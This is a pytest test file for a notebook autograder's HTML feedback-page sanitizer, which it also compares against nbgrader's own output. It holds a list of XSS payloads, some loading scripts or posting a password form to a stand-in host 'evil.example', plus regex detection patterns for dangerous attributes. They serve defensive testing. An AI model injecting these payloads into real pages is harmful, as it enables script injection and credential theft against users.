"""Feedback pages: the same as nbgrader's own, and nothing in them that a student's notebook could run or load."""

import base64
import re
from collections import Counter
from copy import deepcopy

import pytest
from bs4 import BeautifulSoup
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograde.build import register
from autograde.feedback import MAX_RICH, MAX_RICH_PAGE, clean, feedback_page, write_feedback
from autograde.gradebook import GradebookWriter, Graded, save_autograded
from autograde.intake import Submission, restore
from autograde.nbgrader_api import course_api, feedback_on_one
from autograde.paths import SOLUTIONS
from autograde.sample import Work
from autograde.script import grade_id, read_script, write_notebook
from helpers.card import html_card
from helpers.check import VERDICT_TYPE

A = "gradient_checking"
POINTS = read_script(SOLUTIONS / f"{A}.py").points
FIRST = next(iter(POINTS))
SCORES = {question: round(points / 3, 2) for question, points in POINTS.items()}
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def card(question):
    return html_card(
        "partly", f"◐ {question} · partly right", ['✗ a case: `x` isn\'t > 1 & "y"', "    W1: <b> differs"], "p<q"
    )


def executed():
    """A graded notebook: two functions written, a card in each check cell."""
    work = Work(A)
    work.solve(*work.functions[:2])
    notebook = restore(work.notebook.cells, Submission("ada", A))
    for number, cell in enumerate(cell for cell in notebook.cells if cell.cell_type == "code"):
        cell.execution_count = number + 1
        question = grade_id(cell).removeprefix("test_")
        if question != grade_id(cell):
            data = {"text/plain": "3.0", "text/html": card(question), VERDICT_TYPE: {"question": question}}
            cell.outputs = [new_output("execute_result", data, execution_count=number + 1)]
    return notebook


def graded(*extra, scores=SCORES):
    """A submission with these cells in front."""
    notebook = executed()
    notebook.cells[:0] = extra
    return Graded("ada", A, scores, None, notebook)


def shows(*outputs):
    return new_code_cell("show()", outputs=list(outputs))


def displays(data, **metadata):
    return shows(new_output("display_data", data, metadata=metadata))


def page_of(*cells):
    """The page of a notebook that has these cells and the first check cell only."""
    one = graded()
    check = [cell for cell in one.notebook.cells if grade_id(cell) == f"test_{FIRST}"]
    one.notebook.cells = [*cells, *check]
    return feedback_page(one, POINTS)


def container(page):
    """What came from the notebook; the head is the template's."""
    return BeautifulSoup(page, "html.parser").find(id="notebook-container")


FORBIDDEN = "audio base button embed form iframe input link math meta noscript object script style svg template video"
ASKS = re.compile(r"\s*(https?:|//|javascript:|data:text)|[\w./]+$", re.IGNORECASE)
RUNS = re.compile(r"\s*(j\s*a\s*v\s*a|data:)", re.IGNORECASE)
COVERS = re.compile(r"url\(|position|margin|\\|import", re.IGNORECASE)


def dangers(tree):
    """What in a page could run, load something, or lie over the rest of it."""
    yield from (tag.name for tag in tree.find_all(FORBIDDEN.split()))
    for tag in tree.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if (
                name.startswith("on")
                or (name == "src" and ASKS.match(text))
                or (name == "href" and RUNS.match(text))
                or (name == "style" and COVERS.search(text))
                or (name == "class" and {"navbar-fixed-top", "mermaid"} & set(text.split()))
            ):
                yield f"{name}={text}"


def added_dangers(*extra):
    """Those that these cells bring in; the page has some of its own, as the margins of its card."""
    without = Counter(dangers(container(page_of())))
    return list((Counter(dangers(container(page_of(*extra)))) - without).elements())


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src='http://evil.example/x.js'></sCrIpT>",
    "<scr<i></i>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/track.png'>",
    "<p onclick='alert(1)' style='position:fixed; top:0; color:red'>Score: 100</p>",
    "<p style='color:red\\3bposition:fixed'>x</p><p style='font-family:url(//evil.example)'>y</p>",
    "<div class='navbar-fixed-top score'>100 / 100</div>",
    "<iframe src='http://evil.example'></iframe><object data='http://evil.example'></object><embed src=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import url(http://evil.example); body {display: none}</style>",
    "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><input type=password><button>Log in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a> <a href='&#106;avascript:alert(1)'>y</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<video src=//evil.example autoplay></video><audio src=//evil.example></audio>",
    "<template><script>alert(1)</script></template>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_wherever_it_stands(html):
    assert list(dangers(BeautifulSoup(html.replace("<i></i>", ""), "html.parser"))), "this would prove nothing"
    everywhere = [
        displays({"text/html": f"<p>before</p>{html}"}),
        shows(new_output("execute_result", {"text/html": html, "text/plain": "x"}, execution_count=1)),
        displays({"text/markdown": f"*before*\n\n{html}"}),
        displays({"text/latex": f"${html}$"}),
        displays({"text/plain": html}),
        shows(new_output("stream", text=html), new_output("stream", name="stderr", text=html)),
        shows(new_output("error", ename=html, evalue=html, traceback=[html])),
        new_markdown_cell(f"before\n\n{html}\n\nin {html} line"),
        new_raw_cell(html),
        new_code_cell(html),
        new_markdown_cell(f"# {html}"),
        new_markdown_cell(f"| a |\n|---|\n| {html} |"),
        new_markdown_cell(f"```{html}\n{html}\n```\n\n```mermaid\n{html}\n```"),
    ]
    assert added_dangers(*everywhere) == []


def test_other_dangerous_things_of_a_notebook_are_harmless():
    attack = '" onload="alert(1)'
    cell = new_code_cell(
        "x",
        id="a",
        metadata={"tags": [attack], "alt": attack, "magics_language": "x", "transient": {"remove_source": True}},
    )
    cell.id, cell.execution_count = attack, "<script>alert(1)</script>"
    wide = {"image/png": {"width": "1 onload=alert(1)", "height": f"1{attack}", "alt": attack, "unconfined": True}}
    cells = (
        cell,
        displays({"image/png": PNG}, **wide, filenames={"image/png": "//evil.example/x.png"}),
        displays({"image/png": PNG + attack}),
        displays({"image/svg+xml": SVG}),
        displays({"text/html": "<p>framed</p>"}, **{"text/html": {"isolated": True}}),
        displays({"application/javascript": "alert(1)"}),
        displays({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "a widget"}),
        displays({"application/pdf": PNG, "<script>alert(1)</script>": "x"}),
        new_markdown_cell(
            "![x](http://evil.example/x.png) ![y](attachment:y.png) [z](javascript:alert(1)) <javascript:a>"
        ),
    )
    assert added_dangers(*cells) == []
    page = page_of(*cells)
    assert "framed" in page
    assert "a widget" in page
    assert "(not shown here: application/javascript)" in page
    assert base64.b64encode(SVG.encode()).decode() in page, "a drawing is embedded as a picture"
    assert all(picture.get("alt") for picture in container(page).find_all("img"))
    assert "<em>x (not shown here)</em> <em>y (not shown here)</em>" in page


def test_marks_of_ours_in_a_students_cell_are_not_believed():
    """A cell that calls itself a check cell, or an answer, without being the one that was handed out."""
    forged = "<script>alert('forged')</script>"
    marks = {"grade": True, "solution": False, "points": 99.0, "score": 99.0, "comment": forged, "task": True}
    unknown = displays({"text/html": forged})
    unknown.metadata.nbgrader = NotebookNode(marks, grade_id="test_other")
    copy = displays({"text/html": forged})
    copy.metadata.nbgrader = NotebookNode(marks, grade_id=f"test_{FIRST}")
    quoted = displays({"text/html": forged})
    quoted.metadata.nbgrader = NotebookNode(marks, grade_id='"><img src=x onerror="alert(1)"', solution=True)
    for cell in (unknown, copy, quoted):
        page = page_of(cell)
        assert added_dangers(cell) == []
        assert "forged" not in page
        assert "99.0" not in page


def test_what_is_harmless_stays():
    table = '<table border="1" class="dataframe"><tr style="text-align: right;"><td>1</td></tr></table>'
    page = page_of(
        displays({"text/html": f"<style scoped>.dataframe {{}}</style>{table}"}),
        displays({"image/png": PNG, "text/plain": "<Figure>"}, **{"image/png": {"width": 7}}),
        displays({"text/latex": "$a<b$"}),
        shows(new_output("stream", text="\x1b[31mred\x1b[0m & a<b")),
        new_markdown_cell(
            "## Title\n\n$W^{[l]}_{i} < \\alpha$, **bold**, [link](https://example.org), <b>b</b>\n\n"
            "<details><summary>more</summary>x</details>\n\n| a |\n|--:|\n| 1 |\n\n```python\nx = 1\n```\n\n```text\ny = 2\n```"
        ),
    )
    tree = container(page)
    assert tree.find("table", class_="dataframe").td.text == "1"
    assert ".dataframe {}" not in page, "a style sheet is no text"
    assert tree.find("img")["src"] == f"data:image/png;base64,{PNG}"
    assert (tree.find("img")["width"], bool(tree.find("img")["alt"])) == ("7", True)
    assert "$a&lt;b$" in page
    assert "$W^{[l]}_{i} &lt; \\alpha$" in page
    assert tree.find("span", class_="ansi-red-fg").text == "red"
    assert tree.find("a", href="https://example.org").text == "link"
    assert tree.find("h2", id="Title").a["href"] == "#Title"
    assert tree.find("details").summary.text == "more"
    assert tree.find("th", style="text-align:right;").text == "a"
    assert [number.text for number in tree.find_all("span", class_="mi")] == ["1"], "Python is highlighted, text is not"


def test_the_cards_are_as_they_were_made():
    page = feedback_page(graded(), POINTS)
    assert [page.count(card(question)) for question in POINTS] == [1] * len(POINTS)
    assert clean(card(FIRST)) != card(FIRST), "else this would not show that they are left alone"


def test_the_scores_are_those_that_were_given():
    page = feedback_page(graded(), POINTS, late_penalty=7.5)
    total = round(sum(SCORES.values()) - 7.5, 2)
    assert f"<h4>{A} (Score: {total} / 100.0)</h4>" in page
    assert "Late submission penalty (Score: -7.5)" in page
    listed = re.findall(r'<a href="#test_(\w+)">Test cell</a> \(Score: ([\d.]+) / ([\d.]+)\)', page)
    assert [(q, float(s), float(p)) for q, s, p in listed] == [(q, SCORES[q], p) for q, p in POINTS.items()]
    above = re.findall(r"Score: ([\d.]+) / [\d.]+ <a", page)
    assert [float(score) for score in above] == list(SCORES.values())


def test_an_answer_as_it_was_handed_out_is_called_one_and_no_other():
    page = feedback_page(graded(), POINTS)
    commented = set(re.findall(r'href="#comment-(\w+)"', page))
    assert commented == set(list(POINTS)[2:])
    assert page.count("No response.") == len(POINTS) - 2


def test_hidden_tests_are_not_on_the_page():
    one = graded()
    for cell in one.notebook.cells:
        if grade_id(cell).startswith("test_"):
            cell.source = f"### BEGIN HIDDEN TESTS\nsecret = 1\n### END HIDDEN TESTS\n{cell.source}"
    before = deepcopy(one.notebook)
    page = feedback_page(one, POINTS)
    assert "secret" not in page
    assert "HIDDEN" not in page
    assert one.notebook == before, "the notebook itself is left as it is"


@pytest.mark.parametrize(
    "cell",
    [
        new_markdown_cell("![pasted](attachment:missing.png)"),
        shows(new_output("stream", text="half a colour \x1b[38m")),
        new_code_cell("### BEGIN HIDDEN TESTS"),
        new_code_cell(" \n" * (MAX_RICH // 2 - 1) + "blank"),  # for which IPython's lexer takes minutes
        new_markdown_cell("#\n" * (MAX_RICH // 2)),
        new_markdown_cell("> " * 2000),
        displays({"text/html": "<div>" * (MAX_RICH // 5)}),
        displays({"text/html": ["<p>", "in lines"]}),
        displays({}),
    ],
    ids=["attachment", "colour", "marker", "blanks", "headings", "quotes", "nested", "lines", "empty"],
)
def test_odd_cells_do_not_stop_a_page(cell):
    assert card(FIRST) in page_of(cell)


def test_what_is_very_long_is_shown_as_it_was_written():
    long = "**x** <script>alert(1)</script> " * (MAX_RICH // 10)
    cells = (
        new_markdown_cell(long),
        new_code_cell(long),
        displays({"text/html": f"<b>long</b>{long}", "text/plain": "short"}),
        shows(new_output("stream", text="\x1b[31m" + long)),
    )
    assert added_dangers(*cells) == []
    page = page_of(*cells)
    assert page.count("**x** &lt;script&gt;") > MAX_RICH // 4
    assert "short" in page
    some = [new_markdown_cell(f"**{i}** {'x' * 4000}") for i in range(MAX_RICH_PAGE // 4000 + 1)]
    page = page_of(*some)
    assert "<strong>0</strong>" in page
    assert f"**{len(some) - 1}**" in page, "more than a page may take"


def test_it_is_nbgraders_own_page(tmp_path):
    """nbgrader's feedback command, on the same grades in its gradebook, as the oracle."""
    write_notebook(read_script(SOLUTIONS / f"{A}.py").notebook, tmp_path / "source" / A / f"{A}.ipynb")
    register([A], tmp_path, tmp_path / "source")
    one = graded(
        new_markdown_cell("# Mine\n\nText, $x_1$ and `code`.\n\n- a\n- b\n\n| a |\n|:--|\n| 1 |"),
        displays({"image/png": PNG, "text/plain": "<Figure>"}),
        shows(
            new_output("stream", text="a < b\n"), new_output("error", ename="E", evalue="e", traceback=["\x1b[31mE"])
        ),
        displays({"text/latex": "$x^2$"}),
        displays({"text/html": "<table><tbody><tr><td>1</td></tr></tbody></table>"}),
        new_code_cell("%timeit x?\nprint(f'{x}')"),
    )
    with GradebookWriter(tmp_path) as writer:
        (penalty,) = writer.write([one])
    save_autograded(one, tmp_path)
    result = feedback_on_one(course_api(tmp_path), A, "ada")
    assert result["success"], result
    theirs = (tmp_path / "feedback" / "ada" / A / f"{A}.html").read_text(encoding="utf-8")
    path = tmp_path / "ours" / "ada" / f"{A}.html"
    write_feedback(one, POINTS, path, penalty)
    assert lines(path.read_text(encoding="utf-8")) == lines(theirs)
    assert [p.name for p in path.parent.iterdir()] == [path.name]


def lines(page):
    """A page in comparable form: without the texts for pictures, tags of cells, and a style's last semicolon."""
    tree = BeautifulSoup(page, "html.parser")
    for tag in tree.find_all(True):
        tag.attrs.pop("alt", None)
        if "class" in tag.attrs:
            tag["class"] = sorted(c for c in tag.get_attribute_list("class") if c and not c.startswith("celltag"))
        if "style" in tag.attrs:
            tag["style"] = tag["style"].rstrip(";")
    return [line.strip() for line in tree.prettify().splitlines() if line.strip()]
